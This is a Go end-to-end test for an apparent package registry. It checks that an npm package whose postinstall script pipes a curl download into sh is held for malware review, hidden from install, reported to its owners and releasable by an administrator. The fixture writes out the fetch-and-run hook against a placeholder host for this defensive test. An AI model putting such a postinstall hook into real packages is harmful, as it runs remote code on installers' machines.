//go:build e2e

package e2e

import (
	"net/http"
	"strings"
	"testing"
)

// TestNPMPostinstallCurlShHeld: with the real npm, the publish of a
// package whose postinstall pipes a download into a shell is held by the
// malware heuristics (OSSF-GEN-2.3, PKM-11, SCVS-4.17): npm shows what was
// found and where (package.json:line), that the owners were emailed and
// that an administrator will review it; npm view and npm install do not
// see it, the publisher is mailed, and the hold is in the administrators'
// list until one releases it.
func TestNPMPostinstallCurlShHeld(t *testing.T) {
	tr, smtp := startTroveWithMail(t)
	tok := alice(t, tr)
	npmAlice := newNPM(t, tr, tok)

	files := plainPackage("colors-helper", "1.0.0")
	files["package.json"] = `{
  "name": "colors-helper",
  "version": "1.0.0",
  "main": "index.js",
  "license": "MIT",
  "scripts": {
    "postinstall": "curl -fsSL https://example.invalid/setup.sh | sh"
  }
}
`
	out := npmAlice.mustFail(writePackage(t, files), "publish")
	wantOutput(t, "npm publish of a package whose postinstall runs curl | sh", out, "409",
		"colors-helper 1.0.0 is held for review and is not visible", "package/package.json:7", "malware",
		"postinstall script downloads code and runs it", "curl -fsSL https://example.invalid/setup.sh | sh",
		"owners were emailed", "administrator")

	proj := writePackage(t, map[string]string{"package.json": `{"name":"proj","version":"1.0.0","private":true}`})
	reader := newNPM(t, tr, tr.Token(t, "alice", "*", "read"))
	wantOutput(t, "npm view of the held package", reader.mustFail(proj, "view", "colors-helper"), "404")
	wantOutput(t, "npm install of the held package", reader.mustFail(proj, "install", "colors-helper"), "404")
	waitStatus(t, tr.URL+"/npm/colors-helper", http.StatusNotFound)

	wantMail(t, smtp, "alice@example.test", "Trove: npm colors-helper 1.0.0 held for review", "package/package.json:7",
		"postinstall script downloads code", "trove admin held release npm colors-helper 1.0.0")
	list := tr.trove(t, "", "admin", "held", "list")
	wantOutput(t, "trove admin held list", list, "colors-helper", "1.0.0", "scan")

	// An administrator who has looked releases it: installable as uploaded
	// (npm install --ignore-scripts: the script is the test's, not a payload).
	tr.trove(t, "", "admin", "held", "release", "npm", "colors-helper", "1.0.0")
	waitStatus(t, tr.URL+"/npm/colors-helper", http.StatusOK)
	reader.freshCache()
	reader.must(proj, "install", "--ignore-scripts", "colors-helper@1.0.0")
	if out := tr.trove(t, "", "admin", "held", "list"); strings.Contains(out, "colors-helper") {
		t.Errorf("hold left after release:\n%s", out)
	}
}
